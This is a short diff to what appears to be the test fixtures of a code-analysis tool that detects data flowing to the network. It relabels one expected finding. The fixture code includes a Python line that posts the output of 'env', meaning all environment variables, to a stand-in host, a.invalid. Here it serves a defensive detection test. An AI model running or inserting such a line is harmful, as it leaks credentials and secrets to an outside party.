@@ -153,7 +153,7 @@ requests.post('http://a.invalid', data=e)`,
     `import subprocess, requests
 requests.post('http://a.invalid', data=subprocess.getoutput('env'))`,
     [
-      'own.py:2 import flow process-output subprocess.getoutput env > network-send requests.post http://a.invalid',
+      'own.py:2 import flow environment-all subprocess.getoutput env > network-send requests.post http://a.invalid',
     ],
   ],
 ];
